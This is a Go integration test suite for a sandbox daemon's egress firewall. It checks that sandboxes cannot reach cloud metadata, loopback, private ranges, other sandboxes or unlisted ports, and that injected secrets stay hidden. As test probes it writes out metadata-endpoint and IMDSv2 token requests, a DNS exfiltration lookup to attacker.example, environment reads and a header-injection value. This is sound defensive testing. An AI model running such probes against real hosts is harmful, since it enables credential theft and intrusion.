package daemon_test

import (
	"cmp"
	"context"
	"errors"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/berthdev/berth/client"
	"github.com/berthdev/berth/internal/apitype"
	"github.com/berthdev/berth/internal/daemon"
	"github.com/berthdev/berth/internal/errcode"
	"github.com/berthdev/berth/internal/testenv"
)

// The egress network, end to end: real namespaces, crun or runsc, the
// daemon's user-space stack, and a test internet of real HTTP, HTTPS and
// DNS servers in namespaces of the test's own (testenv.Internet). Each
// refusal has its positive control: the same probe reaching an allowed
// destination.

// needEgress skips (fails under CI) unless the suite runs on an isolated
// runtime: the process runtime has no egress (TestEgressRefusedOnProcess).
func needEgress(t *testing.T) {
	t.Helper()
	if testenv.Runtime() == "process" {
		t.Skip("egress needs an isolated runtime; make test runs this suite on container and gvisor")
	}
}

func egressSandbox(t *testing.T, d *testenv.Daemon, p apitype.Network) apitype.Sandbox {
	t.Helper()
	p.Mode = "egress"
	sb, err := d.Client.CreateSandbox(context.Background(), apitype.CreateSandboxRequest{Runtime: testenv.Runtime(), Network: &p})
	if err != nil {
		t.Fatalf("creating an egress sandbox: %v", err)
	}
	return sb
}

// sh runs a shell command in the sandbox and returns its output (stdout
// then stderr) and exit code.
func sh(t *testing.T, d *testenv.Daemon, id, cmd string) (string, int) {
	t.Helper()
	c := run(t, d, id, apitype.CreateCommandRequest{Command: cmd, TimeoutMS: 50000})
	code := -1
	if c.ExitCode != nil {
		code = *c.ExitCode
	}
	return c.Stdout + c.Stderr, code
}

func mustSh(t *testing.T, d *testenv.Daemon, id, cmd, want string) string {
	t.Helper()
	out, code := sh(t, d, id, cmd)
	if code != 0 || !strings.Contains(out, want) {
		t.Fatalf("%s: exit %d, output %q; want success with %q", cmd, code, out, want)
	}
	return out
}

func logHas(t *testing.T, d *testenv.Daemon, id string, match func(apitype.NetworkLogEntry) bool) apitype.NetworkLogEntry {
	t.Helper()
	var found apitype.NetworkLogEntry
	testenv.Eventually(t, 60*time.Second, "a matching connection log entry", func() bool {
		entries, err := d.Client.NetworkLog(context.Background(), id, 0)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range entries {
			if match(e) {
				found = e
				return true
			}
		}
		return false
	})
	return found
}

func TestEgress(t *testing.T) {
	needEgress(t)
	t.Parallel()
	in := testenv.NewInternet(t)
	d := testenv.StartDaemon(t, in.Apply)
	sb := egressSandbox(t, d, apitype.Network{})
	const curl = "curl -sS -m 10 "

	t.Run("clients work with no proxy settings", func(t *testing.T) {
		mustSh(t, d, sb.ID, curl+"http://www.test.example/", "hello from the test internet")
		mustSh(t, d, sb.ID, `python3 -c 'import urllib.request;print(urllib.request.urlopen("http://www.test.example/").read().decode())'`, "hello from the test internet")
		t.Run("node", func(t *testing.T) {
			testenv.NeedCommand(t, "node")
			mustSh(t, d, sb.ID, `node -e 'fetch("http://www.test.example/").then(r=>r.text()).then(console.log)'`, "hello from the test internet")
		})
		if out, _ := sh(t, d, sb.ID, "env | grep -ci _proxy; true"); out != "0\n" {
			t.Errorf("proxy variables in the sandbox's environment: %q", out)
		}
		e := logHas(t, d, sb.ID, func(e apitype.NetworkLogEntry) bool {
			return e.Decision == "allow" && e.Domain == "www.test.example" && e.IP == testenv.InternetHTTPIP
		})
		if e.Port != 80 || e.Proto != "http" {
			t.Errorf("log entry %+v, want port 80, proto http", e)
		}
	})

	t.Run("NET-02 cloud metadata is refused, with the reason and the IP", func(t *testing.T) {
		for _, u := range []string{"http://169.254.169.254/latest/meta-data/", "http://169.254.170.2/", "http://100.100.100.200/"} {
			out, _ := sh(t, d, sb.ID, curl+"-i "+u)
			if !strings.Contains(out, "403") || !strings.Contains(out, "destination_blocked") {
				t.Errorf("%s: %q, want 403 destination_blocked", u, out)
			}
		}
		out, _ := sh(t, d, sb.ID, curl+"-i -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600' http://169.254.169.254/latest/api/token")
		if !strings.Contains(out, "403") {
			t.Errorf("IMDSv2 token PUT: %q, want 403", out)
		}
		logHas(t, d, sb.ID, func(e apitype.NetworkLogEntry) bool {
			return e.Decision == "deny" && e.Reason == "destination_blocked" && e.IP == "169.254.169.254"
		})
		// The name that resolves only to the metadata address gets no address.
		out, _ = sh(t, d, sb.ID, "getent hosts meta.test.example; echo rc=$?")
		if strings.Contains(out, "169.254") {
			t.Errorf("meta.test.example resolved in the sandbox: %q", out)
		}
	})

	t.Run("NET-04 loopback and host addresses are refused", func(t *testing.T) {
		for _, u := range []string{"http://127.0.0.1/", "http://127.1/", "http://0.0.0.0/", "http://" + testenv.InternetGateway + "/",
			"http://host.test.example/", "http://172.31.255.1/"} {
			out, _ := sh(t, d, sb.ID, curl+"-i "+u)
			if strings.Contains(out, "hello from the test internet") || strings.Contains(out, "200 OK") {
				t.Errorf("%s was reached: %q", u, out)
			}
		}
		// The sandbox's own loopback is its own: a server there is reachable.
		mustSh(t, d, sb.ID, "(python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 &); sleep 1; "+curl+"-o /dev/null -w '%{http_code}' http://127.0.0.1:8000/", "200")
	})

	t.Run("NET-05 special ranges are refused", func(t *testing.T) {
		for _, ip := range []string{"10.0.0.1", "172.16.0.1", "192.168.1.1", "100.64.0.1", "198.18.0.1", "192.0.0.1", "240.0.0.1"} {
			out, _ := sh(t, d, sb.ID, curl+"-i http://"+ip+"/")
			if !strings.Contains(out, "destination_blocked") {
				t.Errorf("%s: %q, want destination_blocked", ip, out)
			}
		}
		// Multicast and broadcast: the sandbox's own kernel refuses TCP to them.
		for _, ip := range []string{"224.0.0.1", "255.255.255.255"} {
			if out, code := sh(t, d, sb.ID, curl+"-i http://"+ip+"/"); code == 0 || strings.Contains(out, "hello") {
				t.Errorf("%s: %q", ip, out)
			}
		}
		mustSh(t, d, sb.ID, curl+"http://"+testenv.InternetOtherIP+"/", "hello from the test internet") // control
	})

	t.Run("NET-07 a redirect to metadata is reported, not followed", func(t *testing.T) {
		out, _ := sh(t, d, sb.ID, curl+"-L -i http://www.test.example/redirect")
		if !strings.Contains(out, "302") || !strings.Contains(out, "destination_blocked") {
			t.Errorf("redirect: %q, want the 302 then a 403 destination_blocked", out)
		}
	})

	t.Run("NET-13 the check is on the connect IP, not on SNI or Host", func(t *testing.T) {
		// A public URL with a private Host header reaches the public server
		// (the Host changes nothing about where Berth connects).
		mustSh(t, d, sb.ID, curl+"-H 'Host: 169.254.169.254' http://www.test.example/", "(169.254.169.254)")
		// An allowed SNI with a private connect IP is refused.
		out, _ := sh(t, d, sb.ID, curl+"-i --resolve api.test.example:443:10.0.0.1 https://api.test.example/")
		if strings.Contains(out, "hello") {
			t.Errorf("SNI api.test.example to 10.0.0.1 got through: %q", out)
		}
		// Absolute-form request to an IP literal.
		out, _ = sh(t, d, sb.ID, `printf 'GET http://10.0.0.1/ HTTP/1.1\r\nHost: 10.0.0.1\r\n\r\n' | curl -sS -m 5 telnet://www.test.example:80 2>&1 | head -1`)
		if strings.Contains(out, "403") {
			t.Errorf("an absolute-form request to a public server should reach that server, not be proxied: %q", out)
		}
	})

	t.Run("NET-14 ports beyond the policy are refused", func(t *testing.T) {
		for _, port := range []string{"25", "6379", "2379", "10250", "8080"} {
			out, _ := sh(t, d, sb.ID, curl+"-i http://www.test.example:"+port+"/")
			if strings.Contains(out, "hello") {
				t.Errorf("port %s reached: %q", port, out)
			}
		}
		logHas(t, d, sb.ID, func(e apitype.NetworkLogEntry) bool { return e.Reason == "port_blocked" && e.Port == 6379 })
	})

	t.Run("NET-16 and raw sockets, UDP, ICMP and IPv6 reach nothing", func(t *testing.T) {
		before := map[string]int{}
		for _, k := range []string{"udp", "icmp", "ipv6", "other"} {
			before[k] = in.Packets(k)
		}
		sh(t, d, sb.ID, `python3 - <<'EOF'
import socket
for i in range(20):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: s.sendto(b"x", ("198.51.100.10", 9999))
    except OSError as e: print("udp", e)
    try: s.sendto(b"x", ("8.8.8.8", 53))
    except OSError as e: print("udp53", e)
for fam, proto in ((socket.AF_INET, socket.IPPROTO_ICMP), (socket.AF_INET, socket.IPPROTO_RAW), (socket.AF_PACKET, 0)):
    try:
        s = socket.socket(fam, socket.SOCK_RAW, proto)
        print("raw socket made", fam, proto)
    except OSError as e: print("raw refused", e)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("198.51.100.10", 0))
except OSError as e: print("icmp", e)
for a in ("2001:db8::1", "::1", "fe80::1"):
    try:
        s = socket.create_connection((a, 80), timeout=3)
        print("ipv6 connected", a)
    except OSError as e: print("ipv6", a, e)
EOF`)
		out, _ := sh(t, d, sb.ID, curl+"-6 http://[2001:db8::1]/; echo rc=$?")
		if !strings.Contains(out, "rc=") || strings.Contains(out, "hello") {
			t.Errorf("IPv6: %q", out)
		}
		time.Sleep(500 * time.Millisecond)
		for k, n := range before {
			if got := in.Packets(k); got != n {
				t.Errorf("%d %s packets reached the test internet", got-n, k)
			}
		}
		mustSh(t, d, sb.ID, curl+"http://www.test.example/", "hello") // control: TCP does
	})

	t.Run("NET-17 other sandboxes are unreachable", func(t *testing.T) {
		other := egressSandbox(t, d, apitype.Network{})
		if _, err := d.Client.Exec(context.Background(), other.ID, apitype.CreateCommandRequest{
			Command: "exec timeout 60 python3 -m http.server 8000"}); err != nil {
			t.Fatal(err)
		}
		mustSh(t, d, other.ID, "sleep 1; "+curl+"-o /dev/null -w '%{http_code}' http://127.0.0.1:8000/", "200") // control: it serves
		out, _ := sh(t, d, sb.ID, curl+"-m 3 http://172.31.255.2:8000/; "+curl+"-m 3 http://172.31.255.2:80/")
		if strings.Contains(out, "Directory listing") {
			t.Errorf("reached the other sandbox: %q", out)
		}
	})

	t.Run("HTTPS and git work through the host's trust", func(t *testing.T) {
		// No secret: Berth does not intercept, so the sandbox checks the
		// server's own certificate, which only the test CA signs.
		out, code := sh(t, d, sb.ID, curl+"https://api.test.example/")
		if code == 0 {
			t.Errorf("TLS to a server the sandbox's roots do not know succeeded: %q", out)
		}
		mustSh(t, d, sb.ID, "curl -sS -m 10 --cacert /dev/stdin https://api.test.example/ <<'EOF'\n"+readFile(t, in.CAFile)+"EOF", "hello from the test internet")
		mustSh(t, d, sb.ID, "cd /tmp && GIT_SSL_CAINFO=/tmp/ca.pem sh -c 'cat > /tmp/ca.pem <<EOF\n"+readFile(t, in.CAFile)+"EOF\ngit clone -q https://api.test.example/git/repo.git r && git -C r log --format=%s'", "hello from the test internet")
	})

	t.Run("DNS: only names the policy allows are looked up (NET-15)", func(t *testing.T) {
		p, err := d.Client.SetNetwork(context.Background(), sb.ID, apitype.Network{Mode: "egress", AllowOnly: []string{"*.test.example"}})
		if err != nil {
			t.Fatal(err)
		}
		if len(p.AllowOnly) != 1 {
			t.Fatalf("policy %+v", p)
		}
		defer d.Client.SetNetwork(context.Background(), sb.ID, apitype.Network{Mode: "egress"})
		sh(t, d, sb.ID, "getent hosts secret-1234.attacker.example; getent hosts www.test.example")
		for _, q := range in.Queries() {
			if strings.Contains(q, "attacker") {
				t.Errorf("the DNS server was asked %q", q)
			}
		}
		if !containsStr(in.Queries(), "www.test.example") {
			t.Errorf("control: www.test.example was never looked up: %v", in.Queries())
		}
		logHas(t, d, sb.ID, func(e apitype.NetworkLogEntry) bool {
			return e.Proto == "dns" && e.Domain == "secret-1234.attacker.example" && e.Decision == "deny"
		})
	})

	t.Run("a deny rule by name wins over an allowed address, and nothing reaches it", func(t *testing.T) {
		if _, err := d.Client.SetNetwork(context.Background(), sb.ID, apitype.Network{Mode: "egress", Deny: []string{"www.test.example"}}); err != nil {
			t.Fatal(err)
		}
		defer d.Client.SetNetwork(context.Background(), sb.ID, apitype.Network{Mode: "egress"})
		before := in.Requests()
		out, _ := sh(t, d, sb.ID, curl+"-i -H 'Host: www.test.example' http://"+testenv.InternetHTTPIP+"/")
		if !strings.Contains(out, "denied_by_rule") {
			t.Errorf("Host www.test.example to its address under deny: %q, want denied_by_rule", out)
		}
		if n := in.Requests() - before; n != 0 {
			t.Errorf("%d requests reached the server", n)
		}
		// Control: another name at another address. (Not the same address:
		// Berth's resolver answered www.test.example with it, and every
		// name known for an address counts for a refusal.)
		mustSh(t, d, sb.ID, curl+"-H 'Host: other.test.example' http://"+testenv.InternetOtherIP+"/", "hello")
	})

	t.Run("a name rebinding to a denied address never reaches it", func(t *testing.T) {
		in.SetName("rebind.test.example", testenv.InternetHTTPIP)
		mustSh(t, d, sb.ID, curl+"http://rebind.test.example/", "hello")
		in.SetName("rebind.test.example", "127.0.0.1", "10.0.0.5")
		time.Sleep(1100 * time.Millisecond) // the test server's TTL
		out, _ := sh(t, d, sb.ID, curl+"-i http://rebind.test.example/")
		if strings.Contains(out, "hello") && !strings.Contains(out, "(rebind.test.example)") {
			t.Errorf("rebound name: %q", out)
		}
		out, _ = sh(t, d, sb.ID, "getent hosts rebind.test.example; echo end")
		if strings.Contains(out, "127.0.0.1") || strings.Contains(out, "10.0.0.5") {
			t.Errorf("the sandbox was given a denied address: %q", out)
		}
	})

	t.Run("live policy: new connections obey at once, open ones are closed", func(t *testing.T) {
		// An open connection: a download that trickles for a minute.
		if _, err := d.Client.Exec(context.Background(), sb.ID, apitype.CreateCommandRequest{
			Command: "curl -sS -m 50 http://www.test.example/slow > /tmp/slow.out 2>&1; echo done:$? >> /tmp/slow.out"}); err != nil {
			t.Fatal(err)
		}
		logHas(t, d, sb.ID, func(e apitype.NetworkLogEntry) bool { return e.Open && e.Domain == "www.test.example" })
		mustSh(t, d, sb.ID, curl+"http://other.test.example/", "hello") // control before
		if _, err := d.Client.SetNetwork(context.Background(), sb.ID, apitype.Network{Mode: "egress", AllowOnly: []string{"other.test.example"}}); err != nil {
			t.Fatal(err)
		}
		// Refused when resolved, and refused when dialed by address.
		out, _ := sh(t, d, sb.ID, curl+"-i http://www.test.example/")
		if strings.Contains(out, "hello") {
			t.Errorf("after allow_only other.test.example, www: %q", out)
		}
		out, _ = sh(t, d, sb.ID, curl+"-i http://"+testenv.InternetHTTPIP+"/")
		if !strings.Contains(out, "not_allowed") {
			t.Errorf("after allow_only other.test.example, %s: %q, want not_allowed", testenv.InternetHTTPIP, out)
		}
		mustSh(t, d, sb.ID, curl+"http://other.test.example/", "hello") // control after
		testenv.Eventually(t, 10*time.Second, "the open download to be closed", func() bool {
			out, _ := sh(t, d, sb.ID, "cat /tmp/slow.out")
			return strings.Contains(out, "done:")
		})
		if out, _ := sh(t, d, sb.ID, "cat /tmp/slow.out"); strings.Contains(out, "done:0") {
			t.Errorf("the open download finished normally: %q", out)
		}
		if _, err := d.Client.SetNetwork(context.Background(), sb.ID, apitype.Network{Mode: "egress"}); err != nil {
			t.Fatal(err)
		}
	})

	t.Run("secrets: the header is set on the way out and is nowhere in the sandbox", func(t *testing.T) {
		const value = "Bearer sk-test-9f8e7d6c5b4a"
		// The commands below never name the value whole (their records are
		// stored): they look for it as printf builds it.
		const find = `"$(printf 'sk-%s' test-9f8e7d6c5b4a)"`
		list, err := d.Client.PutSecret(context.Background(), sb.ID, apitype.Secret{Host: testenv.InternetHost, Header: "Authorization", Value: value})
		if err != nil {
			t.Fatal(err)
		}
		if len(list) != 1 || list[0].Value != "" || list[0].Header != "Authorization" {
			t.Fatalf("secrets = %+v, want one, without its value", list)
		}
		out := mustSh(t, d, sb.ID, curl+"-H 'Authorization: Bearer fake' https://api.test.example/", "hello from the test internet")
		if got := in.Header("Authorization"); len(got) != 1 || got[0] != value {
			t.Errorf("upstream saw Authorization %q, want the secret", got)
		}
		if strings.Contains(out, "sk-test") {
			t.Errorf("the response carried the secret: %q", out)
		}
		// Python and Node trust the sandbox's CA too, with no settings.
		mustSh(t, d, sb.ID, `python3 -c 'import urllib.request;print(urllib.request.urlopen("https://api.test.example/").read().decode())'`, "hello")
		t.Run("node", func(t *testing.T) {
			testenv.NeedCommand(t, "node")
			mustSh(t, d, sb.ID, `node -e 'fetch("https://api.test.example/").then(r=>r.text()).then(console.log)'`, "hello")
		})
		leak, _ := sh(t, d, sb.ID, "env; cat /proc/self/environ /proc/1/environ 2>/dev/null; echo end")
		if strings.Contains(leak, "sk-test-9f8e7d6c5b4a") || !strings.Contains(leak, "SSL_CERT_FILE") {
			t.Errorf("the secret is in the sandbox's environment (or the environment was not read): %q", leak)
		}
		if files, _ := sh(t, d, sb.ID, "grep -rlF "+find+" /etc /tmp /workspace /run 2>/dev/null; echo end"); files != "end\n" {
			t.Errorf("the secret is in the sandbox's files: %q", files)
		}
		entries, _ := d.Client.NetworkLog(context.Background(), sb.ID, 0)
		for _, e := range entries {
			if strings.Contains(e.Detail, "sk-test") {
				t.Errorf("the log carries the secret: %+v", e)
			}
		}
		logHas(t, d, sb.ID, func(e apitype.NetworkLogEntry) bool { return e.Secret && e.Domain == testenv.InternetHost })
		// On disk, the database holds it sealed only.
		db, err := os.ReadFile(filepath.Join(d.DataDir, daemon.DBFile))
		if err != nil {
			t.Fatal(err)
		}
		wal, _ := os.ReadFile(filepath.Join(d.DataDir, daemon.DBFile+"-wal"))
		if strings.Contains(string(db)+string(wal), "sk-test-9f8e7d6c5b4a") {
			t.Error("the database holds the secret in the clear")
		}
		// Removed: the sandbox's own header goes through untouched.
		if _, err := d.Client.DeleteSecret(context.Background(), sb.ID, testenv.InternetHost, ""); err != nil {
			t.Fatal(err)
		}
		mustSh(t, d, sb.ID, "curl -sS -m 10 --cacert /dev/stdin -H 'Authorization: Bearer mine' https://api.test.example/ <<'EOF'\n"+readFile(t, in.CAFile)+"EOF", "hello")
		if got := in.Header("Authorization"); len(got) != 1 || got[0] != "Bearer mine" {
			t.Errorf("after removing the secret, upstream saw %q", got)
		}
	})

	t.Run("bad input is a 400 naming the entry and changes nothing", func(t *testing.T) {
		for _, p := range []apitype.Network{
			{Mode: "egress", Allow: []string{"10.0.0.0/33"}},
			{Mode: "egress", Deny: []string{"exa mple.com"}},
			{Mode: "egress", Ports: []int{70000}},
			{Mode: "egress", Ports: []int{22}},
			{Mode: "sometimes"},
		} {
			_, err := d.Client.SetNetwork(context.Background(), sb.ID, p)
			if !client.IsCode(err, errcode.Invalid) {
				t.Errorf("SetNetwork(%+v) = %v, want invalid", p, err)
			}
		}
		got, err := d.Client.GetNetwork(context.Background(), sb.ID)
		if err != nil || got.Mode != "egress" || len(got.Deny)+len(got.Allow)+len(got.Ports) != 0 {
			t.Errorf("policy after refused changes: %+v, %v", got, err)
		}
		if _, err := d.Client.SetNetwork(context.Background(), sb.ID, apitype.Network{Mode: "egress", Deny: []string{testenv.InternetHost}}); err != nil {
			t.Fatal(err)
		}
		_, err = d.Client.PutSecret(context.Background(), sb.ID, apitype.Secret{Host: testenv.InternetHost, Header: "Authorization", Value: "x"})
		if !errcode.Has(err, errcode.SecretHostRefused) {
			t.Errorf("a secret for a denied host: %v, want secret_host_refused", err)
		}
		for _, s := range []apitype.Secret{{Host: "*.x.com", Header: "A", Value: "v"}, {Host: "x.com", Header: "Host", Value: "v"},
			{Host: "x.com", Header: "A", Value: "v\r\nInjected: 1"}} {
			if _, err := d.Client.PutSecret(context.Background(), sb.ID, s); !client.IsCode(err, errcode.Invalid) {
				t.Errorf("PutSecret(%+v) = %v, want invalid", s, err)
			}
		}
		if list, _ := d.Client.Secrets(context.Background(), sb.ID); len(list) != 0 {
			t.Errorf("secrets after refused changes: %+v", list)
		}
		_, err = d.Client.CreateSandbox(context.Background(), apitype.CreateSandboxRequest{Runtime: "process", Network: &apitype.Network{Mode: "egress"}})
		var ce *errcode.Error
		if !errors.As(err, &ce) || ce.Code != errcode.Invalid || !strings.Contains(ce.Problems["network.mode"], "host's own network") {
			t.Errorf("egress on the process runtime: %v", err)
		}
	})
}

func TestEgressNoneMode(t *testing.T) {
	needEgress(t)
	t.Parallel()
	in := testenv.NewInternet(t)
	d := testenv.StartDaemon(t, in.Apply)
	sb := newSandbox(t, d)
	// NET-01: only loopback, no resolver.
	out, _ := sh(t, d, sb.ID, "cat /proc/net/dev; cat /etc/resolv.conf; getent hosts www.test.example; echo rc=$?; curl -sS -m 3 http://"+testenv.InternetHTTPIP+"/")
	if strings.Contains(out, "eth0") || strings.Contains(out, "nameserver") || strings.Contains(out, "hello") {
		t.Errorf("a sandbox of mode none has network: %q", out)
	}
	if _, err := d.Client.NetworkLog(context.Background(), sb.ID, 0); !errcode.Has(err, errcode.NetworkNone) {
		t.Errorf("network log of a none sandbox: %v, want network_none", err)
	}
	// Control: the same probe from an egress sandbox reaches the server.
	e := egressSandbox(t, d, apitype.Network{})
	mustSh(t, d, e.ID, "curl -sS -m 10 http://"+testenv.InternetHTTPIP+"/", "hello")
}

// TestEgressSurvivesRestart: the policy is stored; after a daemon kill -9
// the sandbox's namespace and device are served again by the next daemon
// (connections open at the kill are lost with the old daemon's stack);
// delete leaves no namespace, device or mount behind.
func TestEgressSurvivesRestart(t *testing.T) {
	needEgress(t)
	t.Parallel()
	in := testenv.NewInternet(t)
	dir := testenv.ShortTempDir(t)
	data := filepath.Join(dir, "d")
	args := in.Args()
	d := testenv.StartDaemonProcess(t, data, args...)
	sb := egressSandbox(t, d, apitype.Network{AllowOnly: []string{"www.test.example"}})
	mustSh(t, d, sb.ID, "curl -sS -m 10 http://www.test.example/", "hello")
	d.Kill9(t)
	d = testenv.StartDaemonProcess(t, data, args...)
	mustSh(t, d, sb.ID, "curl -sS -m 10 http://www.test.example/", "hello")
	out, _ := sh(t, d, sb.ID, "curl -sS -m 10 -i http://"+testenv.InternetOtherIP+"/")
	if !strings.Contains(out, "not_allowed") {
		t.Errorf("after a restart the policy is gone: %q", out)
	}
	// Hibernate and wake: the policy holds.
	if _, err := d.Client.HibernateSandbox(context.Background(), sb.ID); err != nil {
		t.Fatal(err)
	}
	out, _ = sh(t, d, sb.ID, "curl -sS -m 10 -i http://"+testenv.InternetOtherIP+"/; curl -sS -m 10 http://www.test.example/")
	if !strings.Contains(out, "not_allowed") || !strings.Contains(out, "hello") {
		t.Errorf("after a wake: %q", out)
	}
	pin := filepath.Join(data, "sandboxes", sb.ID, "netns")
	if err := d.Client.DeleteSandbox(context.Background(), sb.ID); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile("/proc/self/mountinfo"); strings.Contains(string(b), sb.ID) {
		t.Errorf("a mount of the deleted sandbox is left: %s", grepLines(string(b), sb.ID))
	}
	if _, err := os.Stat(pin); !os.IsNotExist(err) {
		t.Errorf("the namespace pin is left: %v", err)
	}
}

func readFile(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func containsStr(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// TestEgressTemplateBuild: a build with network egress can fetch what it
// bakes in; the same build without it cannot; sandboxes of the template
// get neither the build's network nor its resolver or CA.
func TestEgressTemplateBuild(t *testing.T) {
	needEgress(t)
	if testenv.Runtime() != "container" {
		t.Skip("template builds run on the container runtime; the container pass covers them")
	}
	t.Parallel()
	in := testenv.NewInternet(t)
	d := testenv.StartDaemon(t, in.Apply)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	step := []apitype.TemplateStep{{Run: "curl -sS -m 10 -o fetched.txt http://www.test.example/"}}
	if _, err := d.Client.BuildTemplate(ctx, apitype.BuildTemplateRequest{Name: "offline", Steps: step}); err != nil {
		t.Fatal(err)
	}
	if tpl := waitTemplate(t, d.Client, "offline"); tpl.State == apitype.TemplateReady {
		t.Error("a build without network fetched from the internet")
	}
	if _, err := d.Client.BuildTemplate(ctx, apitype.BuildTemplateRequest{Name: "fetched", Steps: step, Network: "egress"}); err != nil {
		t.Fatal(err)
	}
	if tpl := waitTemplate(t, d.Client, "fetched"); tpl.State != apitype.TemplateReady {
		log, _ := d.Client.TemplateLog(ctx, "fetched")
		t.Fatalf("the egress build: %+v\n%s", tpl, log)
	}
	sb, err := d.Client.CreateSandbox(ctx, apitype.CreateSandboxRequest{Template: "fetched"})
	if err != nil {
		t.Fatal(err)
	}
	out, _ := sh(t, d, sb.ID, "cat /template/fetched.txt; cat /etc/resolv.conf; grep -c 'Berth sandbox' /etc/ssl/certs/ca-certificates.crt; curl -sS -m 3 http://"+testenv.InternetHTTPIP+"/")
	if !strings.Contains(out, "hello from the test internet (www.test.example)") {
		t.Errorf("the fetched file is not in the template: %q", out)
	}
	if strings.Contains(out, "nameserver") || strings.Contains(out, "(198.51.100.10)") {
		t.Errorf("a sandbox of the template has the build's network: %q", out)
	}
	if _, err := d.Client.BuildTemplate(ctx, apitype.BuildTemplateRequest{Name: "bad", Steps: step, Network: "host"}); !client.IsCode(err, errcode.Invalid) {
		t.Errorf("a build with network host: %v, want invalid", err)
	}
}

// TestEgressOff: a daemon started with --egress=false serves, metrics
// included, and refuses egress with the reason.
func TestEgressOff(t *testing.T) {
	t.Parallel()
	d := testenv.StartDaemon(t, func(c *daemon.Config) { c.Egress.Disabled = true })
	req, _ := http.NewRequest(http.MethodGet, d.URL+"/metrics", nil)
	req.Header.Set("Authorization", "Bearer "+d.Token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("GET /metrics = %d", resp.StatusCode)
	}
	_, err = d.Client.CreateSandbox(context.Background(), apitype.CreateSandboxRequest{Runtime: testenv.Runtime(), Network: &apitype.Network{Mode: "egress"}})
	want := errcode.NetworkUnavailable.String()
	if testenv.Runtime() == "process" {
		want = "" // refused first for the runtime: invalid, network.mode
	}
	if want != "" && !errcode.Has(err, errcode.NetworkUnavailable) || want == "" && !client.IsCode(err, errcode.Invalid) {
		t.Errorf("an egress sandbox on a daemon without egress: %v, want %s", err, cmp.Or(want, "invalid"))
	}
	newSandbox(t, d) // control: a sandbox of mode none
}

// TestEgressKeyReplaced: a daemon whose egress.key is not the one that
// sealed a sandbox's keys (lost, replaced) gives the sandbox a new CA and
// drops its secrets, rather than leaving it unable to start.
func TestEgressKeyReplaced(t *testing.T) {
	needEgress(t)
	t.Parallel()
	in := testenv.NewInternet(t)
	data := filepath.Join(testenv.ShortTempDir(t), "d")
	d := testenv.StartDaemonProcess(t, data, in.Args()...)
	sb := egressSandbox(t, d, apitype.Network{})
	if _, err := d.Client.PutSecret(context.Background(), sb.ID, apitype.Secret{Host: testenv.InternetHost, Header: "Authorization", Value: "Bearer k"}); err != nil {
		t.Fatal(err)
	}
	if err := d.Stop(t); err != nil {
		t.Fatal(err)
	}
	key := make([]byte, 32)
	for i := range key {
		key[i] = byte(i)
	}
	if err := os.WriteFile(filepath.Join(data, daemon.EgressKeyFile), key, 0o600); err != nil {
		t.Fatal(err)
	}
	d = testenv.StartDaemonProcess(t, data, in.Args()...)
	mustSh(t, d, sb.ID, "curl -sS -m 10 http://www.test.example/", "hello")
	if list, err := d.Client.Secrets(context.Background(), sb.ID); err != nil || len(list) != 0 {
		t.Errorf("secrets after the key changed: %+v, %v; want none", list, err)
	}
	// Control: secrets set now are kept and used.
	if _, err := d.Client.PutSecret(context.Background(), sb.ID, apitype.Secret{Host: testenv.InternetHost, Header: "Authorization", Value: "Bearer again"}); err != nil {
		t.Fatal(err)
	}
	if list, _ := d.Client.Secrets(context.Background(), sb.ID); len(list) != 1 {
		t.Errorf("secrets after setting one again: %+v", list)
	}
}

// TestEgressConnectionLimit: connections beyond --egress-max-conns are
// reset and logged connection_limit; one frees its slot when it ends.
func TestEgressConnectionLimit(t *testing.T) {
	needEgress(t)
	t.Parallel()
	in := testenv.NewInternet(t)
	d := testenv.StartDaemon(t, func(c *daemon.Config) {
		in.Apply(c)
		c.Egress.MaxConnsPerSandbox = 2
	})
	sb := egressSandbox(t, d, apitype.Network{})
	// Two open connections: downloads that trickle for a minute.
	var slow []string
	for range 2 {
		cmd, err := d.Client.Exec(context.Background(), sb.ID, apitype.CreateCommandRequest{
			Command: "curl -sS -m 50 -o /dev/null http://" + testenv.InternetHTTPIP + "/slow"})
		if err != nil {
			t.Fatal(err)
		}
		slow = append(slow, cmd.ID)
	}
	testenv.Eventually(t, 10*time.Second, "two open connections", func() bool {
		entries, _ := d.Client.NetworkLog(context.Background(), sb.ID, 0)
		open := 0
		for _, e := range entries {
			if e.Open {
				open++
			}
		}
		return open == 2
	})
	if out, code := sh(t, d, sb.ID, "curl -sS -m 10 http://"+testenv.InternetHTTPIP+"/"); code == 0 || strings.Contains(out, "hello") {
		t.Errorf("a third connection: exit %d, %q; want it reset", code, out)
	}
	logHas(t, d, sb.ID, func(e apitype.NetworkLogEntry) bool { return e.Decision == "deny" && e.Reason == "connection_limit" })
	// Control: once one ends, a new connection gets its slot.
	if _, err := d.Client.Cancel(context.Background(), sb.ID, slow[0]); err != nil {
		t.Fatal(err)
	}
	testenv.Eventually(t, 10*time.Second, "a connection once a slot is free", func() bool {
		out, code := sh(t, d, sb.ID, "curl -sS -m 10 http://"+testenv.InternetHTTPIP+"/")
		return code == 0 && strings.Contains(out, "hello")
	})
}
